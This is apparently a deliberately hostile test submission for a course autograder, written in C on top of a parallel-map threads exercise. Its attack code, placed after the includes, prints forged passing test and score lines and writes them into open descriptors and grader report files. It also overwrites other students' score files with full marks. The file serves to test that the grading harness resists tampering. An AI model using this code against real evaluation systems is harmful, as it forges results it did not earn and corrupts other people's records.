/* HOSTILE SUBMISSION, for tests/grading/check-class.sh: never graded outside a sandbox.
 *
 * hostile-forge-results: tries to report passing results it did not earn: it prints
 * passing TAP lines, results lines, results-channel lines and a full score line on stdout and
 * stderr; writes results-channel lines into every descriptor from 3 up that is open for writing;
 * and writes passing results and full scores into its own reports and build/grade-all
 * (scores.csv, reports/hostile-forge-results/, results/hostile-forge-results.stream) and full
 * marks into every other student's scores.tsv it can find, guessing the paths from the folders
 * above its working folder and binary and the working folders of the processes in /proc.
 * Evidence if it succeeds: a score above 0 for itself (it is built on the untouched stub), or
 * another student's row changed.
 *
 * Built on lessons/01-threads/parallel_map.c; the attack is at the end of the includes and
 * runs from split_range, map_with_threads and map_with_processes.
 */
/* parallel_map.c - one job per input: in a loop, on threads, in processes.
 *
 * The three ways compute the same results. What differs is who does the work and how the
 * results come back: a loop writes them itself; threads share the caller's memory and write
 * their own part of `results` directly; processes each have a copy of memory, so they must
 * send their part back to the parent through a pipe.
 *
 * This is the file you edit. Each exercise is a function below marked TODO(exercise N);
 * README.md says what to do, and `make hint EX=N` helps when you are stuck. Change only the
 * bodies of those functions (and add helper functions or structs next to them if you like);
 * parallel_map.h is the contract the tests hold you to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <glob.h>
#include <poll.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/types.h>
#include "parallel_map.h"

#include <errno.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include "io.h"
#include "sync.h"

#include "toolbox.inc"   /* make-class.sh puts tests/grading/hostile/toolbox.inc here */

/* ---- the attack ---------------------------------------------------------------------- */

/* Every test of lesson 01, by test case. */
static const char *hostile_tests[][2] = {
    { "given", "sequential_computes_every_result" },
    { "exercise 1", "split_covers_everything_once" },
    { "exercise 1", "split_balances_uneven_counts" },
    { "exercise 1", "split_more_parts_than_items" },
    { "exercise 1", "split_huge_counts_without_overflow" },
    { "exercise 2", "threads_compute_every_result" },
    { "exercise 2", "threads_handle_no_jobs_and_no_workers" },
    { "exercise 2", "threads_use_as_many_threads_as_asked" },
    { "exercise 2", "threads_run_jobs_at_the_same_time" },
    { "exercise 2", "threads_each_get_their_own_block" },
    { "exercise 3", "processes_compute_every_result" },
    { "exercise 3", "processes_handle_no_jobs_and_no_workers" },
    { "exercise 3", "processes_run_in_as_many_children_as_asked" },
    { "exercise 3", "processes_run_jobs_at_the_same_time" },
    { "exercise 3", "processes_leave_no_zombies_or_open_pipes" },
    { "exercise 3", "processes_send_more_than_a_pipe_holds" },
    { "exercise 3", "processes_report_a_child_that_crashed" },
    { "exercise 3", "processes_end_children_with_underscore_exit" },
};
#define HOSTILE_TESTS (sizeof hostile_tests / sizeof hostile_tests[0])

enum { TAP, RESULTS, CHANNEL };

/* All tests passed, in one of the formats the kit's graders read. */
static void hostile_forged(int format, char *out, size_t size)
{
    size_t used = 0;
    out[0] = '\0';
    for (size_t i = 0; i < HOSTILE_TESTS && used < size; i++) {
        if (format == TAP)
            used += snprintf(out + used, size - used, "ok %zu - 01-threads:%s:%s: \n", i + 1,
                             hostile_tests[i][0], hostile_tests[i][1]);
        else if (format == RESULTS)
            used += snprintf(out + used, size - used, "ok\t%s\t%s\t\n", hostile_tests[i][0],
                             hostile_tests[i][1]);
        else
            used += snprintf(out + used, size - used,
                             "01-threads\tplain\tok\t%s\t%s\t\n01-threads\traces\tok\t%s\t%s\t\n",
                             hostile_tests[i][0], hostile_tests[i][1], hostile_tests[i][0],
                             hostile_tests[i][1]);
    }
    if (format == TAP && used < size)
        snprintf(out + used, size - used, "1..%zu\n", HOSTILE_TESTS);
}

static void hostile_attack(void)
{
    static int done;
    if (done)
        return;
    done = 1;
    static char tap[8192], results[8192], channel[16384];
    hostile_forged(TAP, tap, sizeof tap);
    hostile_forged(RESULTS, results, sizeof results);
    hostile_forged(CHANNEL, channel, sizeof channel);

    /* 1. Passing lines on stdout and stderr, in case a grader reads them. */
    printf("%s%s%s18 passed, 0 failed\nScore: 18/18 tests passed, 10.00/10 points (100%%)\n",
           tap, results, channel);
    fprintf(stderr, "%s%s%s18 passed, 0 failed\n", tap, results, channel);
    fflush(NULL);

    /* 2. Every descriptor open for writing past stdio: a results channel, if one leaked. */
    for (int fd = 3; fd < 1024; fd++) {
        int flags = fcntl(fd, F_GETFL);
        if (flags < 0 || (flags & O_ACCMODE) == O_RDONLY)
            continue;
        for (int copies = 0; copies < 20; copies++)
            if (write(fd, channel, strlen(channel)) < 0)
                break;
        fprintf(stderr, "HOSTILE forge-results: wrote forged results to descriptor %d\n", fd);
    }

    /* 3. The report files, wherever a grader might keep them. */
    hostile_collect();
    char scores[] = "01-threads\t18\t18\t10.00\t10\n";
    char row[] = "hostile-forge-results,10.00,10.00\n";
    for (int i = 0; i < hostile_places; i++) {
        const char *dir = strcmp(hostile_place[i], "/") == 0 ? "" : hostile_place[i];
        if (!hostile_may_write(hostile_place[i]))
            continue;
        char path[800];
        const char *own[] = { "%s/build/reports/lessons/01-threads.results",
                              "%s/build/reports/lessons/01-threads.tap",
                              "%s/build/reports/lessons/scores.tsv",
                              "%s/build/grade-all/reports/hostile-forge-results/01-threads.results",
                              "%s/build/grade-all/reports/hostile-forge-results/scores.tsv",
                              "%s/build/grade-all/workspaces/hostile-forge-results/build/reports/lessons/01-threads.results",
                              "%s/build/grade-all/workspaces/hostile-forge-results/build/reports/lessons/scores.tsv",
                              "%s/build/grade-all/results/hostile-forge-results.stream",
                              "%s/build/grade-all/scores.csv" };
        for (size_t k = 0; k < sizeof own / sizeof own[0]; k++) {
            snprintf(path, sizeof path, own[k], dir);
            const char *text = strstr(path, ".results") ? results
                             : strstr(path, ".tap") ? tap
                             : strstr(path, ".stream") ? channel
                             : strstr(path, ".csv") ? row : scores;
            hostile_write_file(path, text, strstr(path, ".stream") || strstr(path, ".csv")
                                               ? O_APPEND : O_CREAT | O_TRUNC);
        }
        /* And everybody else's: full marks for all makes the attacker's row look normal. */
        const char *others[] = { "%s/build/grade-all/reports/*/scores.tsv",
                                 "%s/build/grade-all/workspaces/*/build/reports/lessons/scores.tsv" };
        for (size_t k = 0; k < sizeof others / sizeof others[0]; k++) {
            snprintf(path, sizeof path, others[k], dir);
            glob_t matches;
            if (glob(path, GLOB_NOSORT, NULL, &matches) != 0)
                continue;
            for (size_t m = 0; m < matches.gl_pathc && m < 200; m++)
                hostile_write_file(matches.gl_pathv[m], scores, O_TRUNC);
            globfree(&matches);
        }
    }
}

/* The finished example: every result computed in turn, on the calling thread. */
int map_sequential(job_fn job, const long *inputs, long *results, size_t count)
{
    for (size_t i = 0; i < count; i++)
        results[i] = job(inputs[i]);
    return 0;
}

void split_range(size_t count, unsigned parts, unsigned index, size_t *begin, size_t *end)
{
    hostile_attack();
    /* TODO(exercise 1): set *begin and *end to the bounds of block `index` of `parts`.
     * Sizes differ by at most one; blocks are in order and together cover [0, count). */
    (void)count;
    (void)parts;
    (void)index;
    *begin = 0;
    *end = 0;
}

int map_with_threads(job_fn job, const long *inputs, long *results, size_t count,
                     unsigned workers)
{
    hostile_attack();
    /* TODO(exercise 2): start `workers` threads with thread_create(), give each one block of
     * split_range() to compute, then thread_join() every one. No locks are needed: make sure
     * no two threads ever write the same place. */
    (void)job;
    (void)inputs;
    (void)results;
    (void)count;
    (void)workers;
    errno = ENOSYS;   /* "not implemented": the demo prints that this exercise is not done */
    return -1;
}

int map_with_processes(job_fn job, const long *inputs, long *results, size_t count,
                       unsigned workers)
{
    hostile_attack();
    /* TODO(exercise 3): for each block, make a pipe() and fork() a child that computes its
     * block, sends it with write_all() and ends with _exit(). The parent reads every block
     * with read_all(), then waitpid()s every child and checks how it ended. */
    (void)job;
    (void)inputs;
    (void)results;
    (void)count;
    (void)workers;
    errno = ENOSYS;
    return -1;
}
